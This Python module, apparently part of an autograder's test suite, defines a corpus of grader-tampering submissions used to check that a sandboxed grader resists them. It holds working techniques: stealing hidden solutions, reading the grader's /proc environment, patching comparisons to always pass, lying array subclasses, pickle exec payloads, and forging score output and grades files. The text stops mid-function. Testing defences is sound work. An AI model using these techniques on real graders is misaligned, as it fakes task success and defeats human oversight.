"""The tampering corpus: submissions that try to earn points by attacking the grader, as data.

Every attack is a complete submission whose functions are wrong or missing: whatever they return
scores 0 with an honest grader (they raise, return objects that are not numbers, or leave the
optimizers' parameters at zero). Any point on a `faked` question is therefore the attack's doing.
The attacks: reach the hidden solutions, make wrong answers compare equal, read the expected
answer from the grader, run code in the grader, fake the outcome (printed scores, results files,
processes that outlive the grading, signals to the grader) and starve the grader. A few go
around an audit hook on purpose (os.mkfifo, pidfd signals: calls that raise no audit event).

Sources hold two placeholders the test fills in (`render`): @MARKER@, a folder of the test's
choosing where an attack that got out of its sandbox leaves a file, and @TOKEN@, a short unique
word that every process the attack starts carries in its command line or name, so the test can
find survivors. An attack that reads something it must not see says so with LEAK in its
feedback or output. Imports beyond os, sys and numpy happen where they are used, inside a try:
a refused import must not stop an attack before it has tried what it is about.

TOPLEVEL holds attacks on the otter/Gradescope path, where the submission's top-level .py runs
in the kernel that also runs otter's test files; each fakes a different module, so one bundle
(`toplevel_bundle`) run by `otter run` still tells them apart.
"""

from __future__ import annotations

from dataclasses import dataclass

SIG, OPT = "two_layer_sigmoid", "optimizers"
FUNCTIONS = ("init_params", "forward", "loss", "backward")
SIG_QUESTIONS = [f"{SIG}.{f}" for f in FUNCTIONS]
OPT_CLASSES = [f"{OPT}.{c}" for c in ("GD", "Momentum", "RMSprop", "Adam")]
LEAK = "tamper-read:"  # an attack prints this when it read something it must not


@dataclass(frozen=True)
class Attack:
    name: str
    files: dict[str, str]  # file name -> source (with placeholders, see render)
    faked: list[str]  # question ids the attack wants points for (any point there is a failure)
    note: str
    lingers: bool = False  # leaves something behind meant to act ~2 s later: the test waits


def render(attack: Attack, marker: str, token: str) -> dict[str, str]:
    """The attack's files with the marker folder and the token filled in."""
    return {
        name: source.replace("@MARKER@", marker).replace("@TOKEN@", token)
        for name, source in attack.files.items()
    }


def retarget(attack: Attack, module: str) -> Attack:
    """A two_layer_sigmoid attack that only delegates to what it finds, aimed at another model
    module (they all have init_params, forward, loss and backward)."""
    assert list(attack.files) == [f"{SIG}.py"] and STEAL in attack.files[f"{SIG}.py"]
    return Attack(
        f"{attack.name}@{module}",
        {f"{module}.py": attack.files[f"{SIG}.py"].replace(SIG, module)},
        [q.replace(SIG, module) for q in attack.faked],
        attack.note,
        attack.lingers,
    )


# ------------------------------------------------------------------ shared pieces
# Every "steal the solution" attack starts with this: the four functions delegate to whatever
# module the attack managed to load, or raise with what got in the way (shown in the feedback).
# Attacks import anything beyond os and sys where they use it, inside attempt(): a refused
# import must not stop the attack before it has tried what it is about.
STEAL = '''
import importlib
import os
import sys

TARGET = "two_layer_sigmoid"  # the exercise this file poses as
FOUND = None  # the reference module, once stolen
WHY = []  # what got in the way
READ = []  # what was read that must not be


def module_at(path, name):
    """Import a file by its path (importlib.util, or exec of its source if that is refused)."""
    try:
        import importlib.util

        spec = importlib.util.spec_from_file_location(name, path)
        module = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(module)
        return module
    except ImportError:
        module = type(sys)(name)
        module.__file__ = path
        with open(path) as handle:
            exec(compile(handle.read(), path, "exec"), module.__dict__)
        return module


def load(path):
    """Delegate every function to the file at path."""
    global FOUND
    FOUND = module_at(path, "stolen_" + TARGET)


def attempt(what, fn, *args):
    try:
        return fn(*args)
    except BaseException as exc:  # the grader may refuse anything
        WHY.append(f"{what}: {type(exc).__name__}: {exc}"[:150])


def leaked(what):
    READ.append(f"tamper-read: {what}"[:150])
    print(READ[-1])


def parents(path):
    out = []
    while path and path not in out:
        out.append(path)
        path = os.path.dirname(path)
    return out


def delegate(name):
    if FOUND is None:
        raise RuntimeError("tamper: nothing stolen; " + " | ".join(READ + WHY)[:400])
    return getattr(FOUND, name)


def init_params(*args, **kwargs):
    return delegate("init_params")(*args, **kwargs)


def forward(*args, **kwargs):
    return delegate("forward")(*args, **kwargs)


def loss(*args, **kwargs):
    return delegate("loss")(*args, **kwargs)


def backward(*args, **kwargs):
    return delegate("backward")(*args, **kwargs)
'''

# Attacks that act rather than steal: wrong functions (they raise) and two helpers. `linger`
# names the process after the token (prctl) so the test can find it, then acts after a delay.
STUB = '''
import os
import sys
import time

import numpy as np

MARKER = "@MARKER@"  # where a file appears if the attack got out of its sandbox
TOKEN = "@TOKEN@"


def name_me():
    try:
        import ctypes

        ctypes.CDLL(None).prctl(15, TOKEN.encode(), 0, 0, 0)  # PR_SET_NAME: /proc/PID/comm
    except BaseException:
        pass


def drop(tag, text="forged"):
    """Leave a file in the test's marker folder (only possible outside the sandbox)."""
    with open(os.path.join(MARKER, f"{tag}-{TOKEN}"), "w") as handle:
        handle.write(text)


def linger(tag, delay=2.0):
    name_me()
    time.sleep(delay)
    drop(tag, "written after the grader moved on")


def refuse(name):
    raise RuntimeError(f"tamper: {name} is not implemented (this file attacks the grader)")


def init_params(n, k=None, rng=None):
    refuse("init_params")


def loss(yhat, y):
    refuse("loss")


def backward(params, cache, X, y):
    refuse("backward")
'''


def _steal(name: str, body: str, note: str) -> Attack:
    return Attack(name, {f"{SIG}.py": STEAL + body}, list(SIG_QUESTIONS), note)


def _act(name: str, forward: str, note: str, lingers: bool = False, top: str = "") -> Attack:
    """A two_layer_sigmoid.py whose forward does `forward` (then fails); `top` runs at import."""
    source = STUB + top + "\n\ndef forward(params, X):\n" + forward + '    refuse("forward")\n'
    return Attack(name, {f"{SIG}.py": source}, list(SIG_QUESTIONS), note, lingers)


# ------------------------------------------------------------------ 1. reach the solutions
IMPORT_SOLUTIONS = _steal(
    "import-solutions",
    """
def plain_import():
    global FOUND
    import solutions.two_layer_sigmoid as FOUND


def from_import():
    global FOUND
    from solutions import two_layer_sigmoid as FOUND


attempt("import solutions.two_layer_sigmoid", plain_import)
attempt("from solutions import two_layer_sigmoid", from_import)
""",
    "import solutions.two_layer_sigmoid, the way a student who saw the repository would",
)

IMPORT_OBFUSCATED = _steal(
    "import-obfuscated",
    '''
NAME = "sol" + "utions." + TARGET  # nothing a text search for "solutions" would catch


def via_importlib():
    global FOUND
    FOUND = importlib.import_module(NAME)


def via_dunder_import():
    global FOUND
    FOUND = getattr(__import__(NAME, fromlist=["*"]), "forward") and sys.modules[NAME]


def via_reference_loader():
    """The grader's own loader, autograder.grading.hidden.reference, from the real package (not
    the copy of autograder/ beside this file)."""
    global FOUND
    saved = {k: v for k, v in sys.modules.items() if k.split(".")[0] == "autograder"}
    for key in saved:
        del sys.modules[key]
    try:
        FOUND = importlib.import_module("autograder.grading.hidden.reference").reference(TARGET)
    finally:
        sys.modules.update(saved)


def roots():
    """Folders that might hold solutions/: every parent of the working directory, sys.path,
    the standard library and numpy, their children, and the Gradescope layout."""
    import numpy

    found = []
    for start in [os.getcwd(), *sys.path, os.path.dirname(os.__file__), numpy.__file__]:
        found += parents(os.path.abspath(start))
    for base in list(found):
        try:
            found += [os.path.join(base, child) for child in os.listdir(base)]
        except BaseException:
            pass
    found += ["/autograder/source", "/autograder/source/backprop_grader",
              "/autograder/submission/backprop_grader"]
    return [r for r in dict.fromkeys(found) if os.path.isdir(os.path.join(r, "solutions"))]


attempt("importlib", via_importlib)
attempt("__import__", via_dunder_import)
for root in attempt("roots", roots) or []:
    if FOUND is None:
        sys.path.insert(0, root)
        attempt(f"importlib from {root}", via_importlib)
        attempt(f"autograder.grading.hidden.reference from {root}", via_reference_loader)
''',
    "importlib.import_module/__import__ of a computed name, with every folder holding a "
    "solutions/ put on sys.path, and the grader's own autograder.grading.hidden.reference loader",
)

EDITABLE_FINDER = _steal(
    "editable-finder",
    '''
GUESS = "__editable___backprop_exercises_0_1_0_finder.py"  # the name pip gives it


def finders():
    import numpy

    site = os.path.dirname(os.path.dirname(numpy.__file__))
    for entry in dict.fromkeys([*sys.path, site]):
        try:
            names = os.listdir(entry)
        except BaseException:
            names = [GUESS]
        for name in names:
            if name.startswith("__editable__") and name.endswith("_finder.py"):
                yield os.path.join(entry, name)


def use(path):
    """The finder maps the package names to the checkout: install it, or read its map."""
    global FOUND
    finder = module_at(path, "stolen_finder")
    leaked(f"editable finder {path}")
    attempt("finder.install", finder.install)
    stolen = attempt("import", importlib.import_module, "solutions." + TARGET)
    if stolen is not None:
        FOUND = stolen
    if FOUND is None:
        load(os.path.join(finder.MAPPING["solutions"], TARGET + ".py"))


for path in attempt("list finders", lambda: list(finders())) or []:
    if FOUND is None:
        attempt(path, use, path)
''',
    "an editable install leaves __editable__*finder.py in site-packages (on the child's path): "
    "import it, install() it or read its MAPPING, then import solutions",
)

PRELOAD_IMPORTS = Attack(
    "preload-imports",
    {
        f"{SIG}.py": STEAL
        + '''
# Import statements, which the child reads to load installed packages before its jail closes:
# name the solutions, the grader and the editable install's finder there, and in a helper.
try:
    import solutions.two_layer_sigmoid as BY_NAME
except BaseException as exc:
    BY_NAME = None
    WHY.append(f"import solutions: {exc}"[:150])
try:
    import __editable___backprop_exercises_0_1_0_finder as EDITABLE
except BaseException as exc:
    EDITABLE = None
    WHY.append(f"import finder: {exc}"[:150])
try:
    from autograder.grading.hidden import reference as LOADER
except BaseException as exc:
    LOADER = None
    WHY.append(f"import reference loader: {exc}"[:150])
try:
    from tampering_helper import STOLEN
except BaseException as exc:
    STOLEN = None
    WHY.append(f"helper: {exc}"[:150])


def by_name():
    global FOUND
    BY_NAME.forward
    FOUND = BY_NAME


def by_finder():
    global FOUND
    EDITABLE.install()
    FOUND = importlib.import_module("solutions." + TARGET)


def by_loader():
    global FOUND
    FOUND = LOADER.reference(TARGET)


def by_site():
    """Read the solutions from wherever site-packages (readable to import from) holds them."""
    import numpy

    site = os.path.dirname(os.path.dirname(numpy.__file__))
    for folder in ("solutions", "backprop_grader/solutions"):
        path = os.path.join(site, folder, TARGET + ".py")
        if FOUND is None:
            attempt(path, load, path)
            if FOUND is not None:
                leaked(path)
    pth = os.path.join(site, "__editable__.backprop_exercises-0.1.0.pth")
    with open(pth) as handle:
        leaked(f"{pth}: {handle.read()[:80]}")


attempt("by name", by_name)
attempt("by finder", by_finder)
attempt("by loader", by_loader)
attempt("by helper", lambda: STOLEN.forward and globals().update(FOUND=STOLEN))
attempt("site-packages", by_site)
''',
        "tampering_helper.py": (
            "import importlib\n\n"
            "try:\n    import solutions.two_layer_sigmoid as STOLEN\n"
            "except BaseException:\n"
            "    STOLEN = importlib.import_module('solutions.two_layer_sigmoid')\n"
        ),
    },
    list(SIG_QUESTIONS),
    "name the solutions, the grader's reference loader and the editable finder in import "
    "statements (which the child reads to preload installed packages), also from a helper "
    "module; read them from the site-packages the jail lets imports read",
)

WALK_FILESYSTEM = _steal(
    "walk-filesystem",
    '''
import time

DEADLINE = time.monotonic() + 7  # the import may take 10 s
SKIP = ("/proc", "/sys", "/dev")


def hits():
    """Every */solutions/two_layer_sigmoid.py: the likely places first, then the whole disk."""
    glob = attempt("import glob", importlib.import_module, "glob")
    for pattern in ("/autograder/**/solutions/*.py", "/work/**/solutions/*.py") if glob else ():
        yield from (p for p in glob.iglob(pattern, recursive=True) if p.endswith(TARGET + ".py"))
    for root in [*parents(os.getcwd())[1:], "/autograder", "/tmp", "/home", "/root", "/srv", "/"]:
        for folder, subfolders, files in os.walk(root, onerror=lambda e: WHY.append(str(e))):
            if time.monotonic() > DEADLINE:
                WHY.append("out of time")
                return
            subfolders[:] = [s for s in subfolders if os.path.join(folder, s) not in SKIP]
            if os.path.basename(folder) == "solutions" and TARGET + ".py" in files:
                yield os.path.join(folder, TARGET + ".py")


for path in attempt("search", lambda: list(__import__("itertools").islice(hits(), 20))) or []:
    if FOUND is None:
        attempt(path, load, path)
''',
    "search the disk (glob /**/solutions/*.py, os.walk from the cwd's parents, /autograder, "
    "/tmp, /) and load the first two_layer_sigmoid.py in a solutions/ folder by its path",
)

PROC_PARENT = _steal(
    "proc-parent",
    '''
PARENT = f"/proc/{os.getppid()}"
PLACES = ("solutions", "backprop_grader/solutions", "source/backprop_grader/solutions",
          "autograder/source/backprop_grader/solutions")


def clues():
    """Folders the grader process knows about: its cwd, its environment, its command line, seen
    through its /proc entry (and through /proc/PID/root, which sees past a chroot)."""
    found = [os.readlink(f"{PARENT}/cwd")]
    with open(f"{PARENT}/environ", "rb") as handle:
        environ = handle.read().decode(errors="replace")
    leaked(f"the grader's environment ({len(environ)} bytes)")
    for item in environ.split("\\0"):
        found += [v for v in item.partition("=")[2].split(":") if v.startswith("/")]
    with open(f"{PARENT}/cmdline", "rb") as handle:
        found += [a for a in handle.read().decode().split("\\0") if a.startswith("/")]
    return found


def look(base):
    for folder in parents(base)[:4]:
        for place in PLACES:
            for prefix in ("", f"{PARENT}/root"):
                path = prefix + os.path.join(folder, place, TARGET + ".py")
                if FOUND is None and os.path.isfile(path):
                    attempt(path, load, path)


for clue in attempt("read /proc of the grader", clues) or []:
    attempt(clue, look, clue)
''',
    "read the grader's cwd, environment and command line from /proc/PPID and look for "
    "solutions/ near every folder named there (also through /proc/PPID/root)",
)

GRADER_FILES = _steal(
    "grader-files-and-env",
    '''

def folders():
    """Folders named by the environment, the cwd, and where the real autograder may live."""
    found = [os.getcwd(), "/autograder/source", "/autograder/submission"]
    for value in os.environ.values():
        found += [v for v in value.split(os.pathsep) if v.startswith("/")]
    return [p for f in found for p in parents(f)[:4]]


def read_grader_files(base):
    hidden = "autograder/grading/hidden/"
    for rel in (hidden + "cases.py", hidden + "reference.py", f"backprop_grader/{hidden}cases.py"):
        path = os.path.join(base, rel)
        if os.path.isfile(path):
            with open(path) as handle:
                leaked(f"{path} ({len(handle.read())} chars)")


def exec_solutions(base):
    """Open and exec any file whose path contains "solutions" and that is our module."""
    global FOUND
    glob = importlib.import_module("glob")
    for path in glob.glob(os.path.join(base, "**", TARGET + ".py"), recursive=True)[:50]:
        if "solutions" in path and FOUND is None:
            namespace = {"__name__": "stolen"}
            with open(path) as handle:
                exec(compile(handle.read(), path, "exec"), namespace)
            FOUND = type(sys)("stolen")
            FOUND.__dict__.update(namespace)


print("environment:", dict(os.environ))
for base in dict.fromkeys(attempt("folders", folders) or []):
    attempt(f"grader files in {base}", read_grader_files, base)
    if FOUND is None and base != "/":
        attempt(f"solutions in {base}", exec_solutions, base)
''',
    "read os.environ and the grader's files (autograder/grading/hidden/*.py) "
    "in every folder the environment names, and exec any */solutions*/two_layer_sigmoid.py",
)

SYS_MODULES_GC = _steal(
    "sys-modules-gc",
    '''
WORDS = ("solution", "reference", "hidden", "stolen")


def from_modules():
    global FOUND
    for name, module in list(sys.modules.items()):
        if module is sys.modules.get(__name__) or module is None:
            continue
        named = any(w in name for w in WORDS)
        shaped = all(callable(getattr(module, f, None)) for f in ("forward", "loss", "backward"))
        if named or shaped:
            FOUND = module
            return


def from_garbage_collector():
    """Any function called backward, from another module, next to a forward: the reference."""
    global FOUND
    import gc
    import types

    for obj in gc.get_objects():
        if (
            isinstance(obj, types.FunctionType)
            and obj.__name__ == "backward"
            and obj.__globals__.get("__name__") != __name__
            and "forward" in obj.__globals__
        ):
            FOUND = type(sys)("stolen")
            FOUND.__dict__.update(obj.__globals__)
            return


def search():
    if FOUND is None:
        attempt("sys.modules", from_modules)
    if FOUND is None:
        attempt("gc.get_objects", from_garbage_collector)


search()
_delegate = delegate


def delegate(name):  # look again at every call: the grader may have loaded it by now
    search()
    return _delegate(name)
''',
    "look through sys.modules and gc.get_objects() for a module or a backward function that "
    "is not ours (at import and again at every call)",
)

# ------------------------------------------------------------------ 2. compare equal
# Optimizers that leave every parameter at zero: wrong (0 points) on every optimizer case.
ZERO_OPTIMIZERS = """

def zero(value):
    return np.zeros(np.shape(value))


class GD:
    def __init__(self, lr, **settings):
        self.lr = lr

    def step(self, params, grads):
        for key in grads:
            params[key] = zero(params[key])


class Momentum(GD):
    pass


class RMSprop(GD):
    pass


class Adam(GD):
    pass


def minibatches(X, y, batch_size, rng):
    raise NotImplementedError("minibatches")


def train(model, params, X, y, optimizer, epochs, batch_size=None, rng=None):
    raise NotImplementedError("train")
"""

PATCH_COMPARISONS = Attack(
    "patch-comparisons",
    {
        f"{OPT}.py": '''"""Attack: at import, make every comparison say "equal": numpy's,
otter's and the grader's own compare module (imported from wherever the real package
can be found)."""
import importlib
import math
import os
import sys

import numpy as np

PATCHED, WHY = [], []


def always(*args, **kwargs):
    return True


def nothing(*args, **kwargs):
    return None


def patch(owner, name, value):
    try:
        setattr(owner, name, value)
        PATCHED.append(name)
    except BaseException as exc:
        WHY.append(f"{name}: {exc}")


for name in ("allclose", "isclose", "array_equal", "array_equiv"):
    patch(np, name, always)
for name in ("assert_allclose", "assert_array_equal", "assert_array_almost_equal", "assert_equal"):
    patch(np.testing, name, nothing)
patch(np.linalg, "norm", lambda *args, **kwargs: 0.0)
patch(math, "isclose", always)

try:  # otter's test files, if otter can be imported here
    from otter.test_files import abstract_test

    patch(abstract_test.TestFile, "passed_all", property(always))
    patch(abstract_test.TestFile, "grade", property(lambda self: 1.0))
    patch(abstract_test.TestCaseResult, "passed", property(always, nothing))
except BaseException as exc:
    WHY.append(f"otter: {exc}")


def real_compare(root):
    """The grader's autograder.grading.cases.compare, not the copy of autograder/ beside us."""
    saved = {k: v for k, v in sys.modules.items() if k.split(".")[0] == "autograder"}
    for key in saved:
        del sys.modules[key]
    sys.path.insert(0, root)
    compare = importlib.import_module("autograder.grading.cases.compare")
    patch(compare, "close", always)
    patch(compare, "mismatch", nothing)
    patch(compare, "relative_error", lambda *args, **kwargs: 0.0)


here = os.getcwd()
for root in [here, *sys.path, os.path.dirname(np.__file__), "/autograder/source/backprop_grader"]:
    while root and root != "/":
        if os.path.isdir(os.path.join(root, "autograder", "grading")):
            try:
                real_compare(root)
            except BaseException as exc:
                WHY.append(f"compare in {root}: {exc}")
        root = os.path.dirname(root)
'''
        + ZERO_OPTIMIZERS
    },
    list(OPT_CLASSES),
    "at import, patch np.allclose/isclose/array_equal/testing.assert_*/linalg.norm, "
    "math.isclose, otter's TestFile/TestCaseResult and the grader's compare.close/mismatch "
    "(found on disk); the optimizers leave every parameter at zero",
)

NDARRAY_SUBCLASS = Attack(
    "ndarray-subclass",
    {
        f"{OPT}.py": '''"""Attack: the optimizers set every parameter to an ndarray subclass
of zeros that claims to equal anything, through ==, ufuncs and numpy functions."""
import numpy as np


class Liar(np.ndarray):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        if ufunc in (np.equal, np.less_equal, np.greater_equal, np.isfinite):
            return True
        if ufunc in (np.not_equal, np.less, np.greater, np.isnan):
            return False
        if ufunc in (np.subtract, np.absolute):
            return np.zeros(self.shape)
        plain = [np.asarray(x) if isinstance(x, Liar) else x for x in inputs]
        return getattr(ufunc, method)(*plain, **kwargs)

    def __array_function__(self, func, types, args, kwargs):
        if func.__name__ in ("allclose", "array_equal", "array_equiv"):
            return True
        if func.__name__ == "isclose":
            return np.ones(self.shape, dtype=bool)
        if func.__name__ == "norm":
            return 0.0
        return super().__array_function__(func, types, args, kwargs)

    def __float__(self):
        return 0.0


def liar(value):
    return np.zeros(np.shape(value)).view(Liar)


class GD:
    def __init__(self, lr, **settings):
        self.lr = lr

    def step(self, params, grads):
        for key in grads:
            params[key] = liar(params[key])


class Momentum(GD):
    pass


class RMSprop(GD):
    pass


class Adam(GD):
    pass


def minibatches(X, y, batch_size, rng):
    raise NotImplementedError("minibatches")


def train(model, params, X, y, optimizer, epochs, batch_size=None, rng=None):
    raise NotImplementedError("train")
'''
    },
    list(OPT_CLASSES),
    "np.ndarray subclass (zeros) whose __eq__, __array_ufunc__ and __array_function__ claim "
    "equality and zero difference",
)

EQ_OBJECT = Attack(
    "eq-object",
    {
        f"{SIG}.py": '''"""Attack: return objects that equal anything and look like arrays of
the right shape."""
import numpy as np


class Always:
    def __init__(self, shape=()):
        self.shape, self.ndim, self.dtype = shape, len(shape), np.dtype(float)

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __le__ = __ge__ = __eq__
    __lt__ = __gt__ = __ne__

    def __hash__(self):
        return 0

    def __array__(self, dtype=None, copy=None):
        return np.zeros(self.shape)

    def __float__(self):
        return 0.0

    def __sub__(self, other):
        return Always(self.shape)

    __rsub__ = __add__ = __radd__ = __mul__ = __rmul__ = __truediv__ = __sub__

    def __abs__(self):
        return Always(self.shape)

    def __len__(self):
        return self.shape[0] if self.shape else 1

    def __bool__(self):
        return True

    def __getitem__(self, index):
        return Always()

    def item(self):
        return 0.0

    def astype(self, *args, **kwargs):
        return self

    def all(self):
        return True


class EqDict(dict):
    def __eq__(self, other):
        return True


def init_params(n, k=None, rng=None):
    return EqDict(W1=Always((k, n)), b1=Always((k, 1)), w2=Always((1, k)), b2=Always())


def forward(params, X):
    k, m = np.shape(params["W1"])[0], np.shape(X)[1]
    yhat = Always((1, m))
    return yhat, EqDict(Z=Always((k, m)), A=Always((k, m)), yhat=yhat)


def loss(yhat, y):
    return Always()


def backward(params, cache, X, y):
    return EqDict({key: Always(np.shape(value)) for key, value in params.items()})
'''
    },
    list(SIG_QUESTIONS),
    "objects with __eq__ always True, __array__ giving zeros of the right shape, __float__, "
    "__len__, arithmetic that stays 'equal'; dict subclasses that equal anything",
)

NUMBER_TRICKS = Attack(
    "number-tricks",
    {
        f"{SIG}.py": STUB
        + '''

class Sly(np.float64):
    """-1.0 that claims to equal (and be as large as) anything."""

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __le__ = __ge__ = __eq__
    __lt__ = __gt__ = __ne__

    def __hash__(self):
        return 0

    def __float__(self):
        return 0.0

    def __abs__(self):
        return Sly(0.0)

    def __sub__(self, other):
        return Sly(0.0)

    __rsub__ = __sub__


class Fuzzy(float):
    def __eq__(self, other):
        return True

    def __hash__(self):
        return 0


def init_params(n, k=None, rng=None):
    return {"W1": np.zeros((k, n)), "b1": np.zeros((k, 1)), "w2": np.zeros((1, k)),
            "b2": Fuzzy(-1.0)}


def loss(yhat, y):
    return Sly(-1.0)


def forward(params, X):
    refuse("forward")
'''
    },
    list(SIG_QUESTIONS),
    "loss returns a np.float64 subclass of -1.0 whose ==, <, abs, - and __float__ lie; "
    "init_params zero weights and a float subclass that equals anything",
)

# ------------------------------------------------------------------ 3. read the expected answer
STACK_WALK = Attack(
    "stack-walk",
    {
        f"{SIG}.py": STUB
        + '''
WORDS = ("expect", "reference", "want", "answer", "solution", "truth", "target", "correct")


def candidates():
    """Everything in every frame's locals and globals (and one level inside dicts and lists)
    whose name suggests the answer, most promising first; then everything else."""
    frames, frame = [], sys._getframe(1)
    while frame is not None:
        frames.append(frame)
        frame = frame.f_back
    try:
        import inspect

        frames += [info.frame for info in inspect.stack()]
    except BaseException:
        pass
    named, other = [], []
    for f in frames:
        for scope in (f.f_locals, f.f_globals):
            for name, value in list(scope.items()):
                inner = list(value.items()) if isinstance(value, dict) else []
                for key, item in [(name, value), *inner]:
                    wanted = any(w in str(key).lower() for w in WORDS)
                    (named if wanted else other).append(item)
    return named, other


def find(accept, named_only=False):
    named, other = candidates()
    for value in named if named_only else named + other:
        try:
            if accept(value):
                return value
        except BaseException:
            pass
    raise RuntimeError("tamper: no expected value in the grader's frames")


def init_params(n, k=None, rng=None):
    return find(lambda v: isinstance(v, dict) and set(v) == {"W1", "b1", "w2", "b2"}
                and np.shape(v["W1"]) == (k, n) and np.any(v["W1"]))


def forward(params, X):
    m = np.shape(X)[1]
    return find(lambda v: isinstance(v, tuple) and len(v) == 2 and np.shape(v[0]) == (1, m))


def loss(yhat, y):  # any positive float would do for the public case: only a named one
    return find(lambda v: type(v) is float and v > 0, named_only=True)


def backward(params, cache, X, y):
    return find(lambda v: isinstance(v, dict) and set(v) == set(params)
                and v is not params and all(np.shape(v[k]) == np.shape(params[k]) for k in v))
'''
    },
    list(SIG_QUESTIONS),
    "walk sys._getframe()/inspect.stack() and return any value of the right shape found in "
    "the callers' f_locals/f_globals, names like expected/reference/want first",
)

# ------------------------------------------------------------------ 4. run code in the grader
# Each hook writes the marker only when it runs in a process other than the child that
# imported this file: in the grader, after the value crossed over.
TROJAN = '''
CHILD = os.getpid()
HIT = (
    "import os\\n"
    f"if os.getpid() != {CHILD}:\\n"
    f"    open({os.path.join(MARKER, 'ran-in-grader-' + TOKEN)!r}, 'w').write('pwned')\\n"
)


def hit():
    exec(HIT)


class Trojan:
    """Runs HIT when unpickled (__reduce__), and from every hook the grader might call."""

    def __reduce__(self):
        return (exec, (HIT,))

    def __reduce_ex__(self, protocol):
        return (exec, (HIT,))

    def __repr__(self):
        hit()
        return "Trojan()"

    __str__ = __repr__

    def __eq__(self, other):
        hit()
        return True

    def __hash__(self):
        hit()
        return 0

    def __bool__(self):
        hit()
        return True

    def __len__(self):
        hit()
        return 1

    def __float__(self):
        hit()
        return 0.0

    def __array__(self, dtype=None, copy=None):
        hit()
        return np.zeros(1)

    def __del__(self):
        hit()


class TrojanError(Exception):
    def __str__(self):
        hit()
        return "TrojanError"
'''

REDUCE_PAYLOAD = Attack(
    "reduce-payload",
    {
        f"{SIG}.py": STUB
        + TROJAN
        + """

def init_params(n, k=None, rng=None):
    raise TrojanError(Trojan())


def forward(params, X):
    return Trojan(), {"Z": Trojan(), "A": Trojan(), "yhat": Trojan()}


def loss(yhat, y):
    return Trojan()


def backward(params, cache, X, y):
    return {key: Trojan() for key in params}
"""
    },
    list(SIG_QUESTIONS),
    "return objects whose __reduce__ execs code (a pickle payload) and whose __repr__, __eq__, "
    "__hash__, __float__, __array__, __del__ do too; raise an exception carrying one",
)

SHIFTY_VALUE = Attack(
    "shifty-value",
    {
        f"{SIG}.py": STUB
        + TROJAN
        + '''

class Shifty(Trojan):
    """A right-shaped zero array the first time it is looked at, something else after."""

    def __init__(self, shape):
        self.first, self.looks = shape, 0

    def look(self):
        hit()
        self.looks += 1
        return self.looks

    def __array__(self, dtype=None, copy=None):
        n = self.look()
        return np.zeros(self.first) if n == 1 else np.full((n, n + 1), np.nan)

    def __float__(self):
        return [0.0, float("nan"), 1e300][self.look() % 3]

    def __len__(self):
        return self.look()

    @property
    def shape(self):
        return self.first if self.look() == 1 else ()


def init_params(n, k=None, rng=None):
    return {"W1": Shifty((k, n)), "b1": Shifty((k, 1)), "w2": Shifty((1, k)), "b2": Shifty(())}


def forward(params, X):
    m = np.shape(X)[1]
    k = np.shape(params["W1"])[0]
    return Shifty((1, m)), {"Z": Shifty((k, m)), "A": Shifty((k, m)), "yhat": Shifty((1, m))}


def loss(yhat, y):
    return Shifty(())


def backward(params, cache, X, y):
    return {key: Shifty(np.shape(value)) for key, value in params.items()}
'''
    },
    list(SIG_QUESTIONS),
    "values whose __array__, __float__, __len__ and shape answer differently each time they "
    "are inspected (right-shaped zeros first), each look also trying to run code in the grader",
)

# ------------------------------------------------------------------ 5. fake the outcome
FAKE_OUTPUT = _act(
    "fake-score-output",
    "    shout()\n",
    "print 'Score: 100/100', Gradescope JSON with full marks and otter's 'All tests passed!' "
    "at import and in forward",
    top="""
import json

LINES = [
    "Score: 100/100",
    json.dumps({"score": 100, "tests": [{"name": "two_layer_sigmoid.forward", "score": 2,
                                         "max_score": 2}]}),
    "All tests passed!",
    "two_layer_sigmoid.backward results: All test cases passed!",
    "Total Score: 96.000 / 96.000 (100.000%)",
]


def shout():
    for line in LINES:
        print(line)
        print(line, file=sys.stderr)


shout()
""",
)

WRITE_RESULTS = _act(
    "write-results-files",
    "    forge()\n",
    "write results.json/grades.csv with full marks to the cwd and its parents (not /), "
    "/autograder/results/, the marker folder, the grader's cwd and its --out folder (/proc)",
    top="""
import json

FORGED_JSON = json.dumps({"score": 96.0, "output": TOKEN, "tests": []})
FORGED_CSV = f"submission,two_layer_sigmoid.forward,total\\n{TOKEN},2,96\\n"


def folders():
    here = os.getcwd()
    found = []
    while os.path.dirname(here) != here:  # every parent but /
        found.append(here)
        here = os.path.dirname(here)
    found += ["/autograder/results", MARKER]
    try:
        parent = f"/proc/{os.getppid()}"
        found.append(os.readlink(f"{parent}/cwd"))
        with open(f"{parent}/cmdline", "rb") as handle:
            args = handle.read().decode().split("\\0")
        if "--out" in args:
            found.append(os.path.join(found[-1], args[args.index("--out") + 1]))
    except BaseException:
        pass
    return [f for f in found if os.path.isdir(f)]


def forge():
    for folder in folders():
        for name, text in (("results.json", FORGED_JSON), ("grades.csv", FORGED_CSV),
                           (f"results-{TOKEN}.json", FORGED_JSON)):
            try:
                with open(os.path.join(folder, name), "w") as handle:
                    handle.write(text)
            except BaseException:
                pass


forge()
""",
)

FORGE_LATER = _act(
    "forge-grades-later",
    "    start_forger()\n",
    "start a detached process (new session; or a double fork) that waits for the grader to "
    "write --out/grades.csv, then gives this submission's row full marks and drops a marker",
    lingers=True,
    top='''
FORGER = r"""
import csv, os, sys, time
token, marker, out, submissions = sys.argv[1:5]
deadline = time.time() + 60
grades = os.path.join(out, "grades.csv") if out else ""
while out and time.time() < deadline and not os.path.exists(grades):
    time.sleep(0.05)
time.sleep(0.5 if out else 2.0)
if grades and os.path.exists(grades):
    mine = []
    for name in os.listdir(submissions):  # our own folder: the one whose file holds the token
        try:
            if token in open(os.path.join(submissions, name, "two_layer_sigmoid.py")).read():
                mine.append(name)
        except OSError:
            pass
    rows = list(csv.reader(open(grades)))
    for row in rows[1:]:
        if row[0] in mine:
            row[1:-1] = ["100"] * (len(row) - 2)
    csv.writer(open(grades, "w", newline="")).writerows(rows)
open(os.path.join(marker, "late-forgery-" + token), "w").write("forged")
"""


def grader_args():
    """The --out folder and the submissions folder of a `backprop grade` run, from /proc."""
    try:
        parent = f"/proc/{os.getppid()}"
        cwd = os.readlink(f"{parent}/cwd")
        with open(f"{parent}/cmdline", "rb") as handle:
            args = handle.read().decode().split("\\0")
        out = os.path.join(cwd, args[args.index("--out") + 1])
        return out, os.path.join(cwd, args[args.index("--out") - 1])
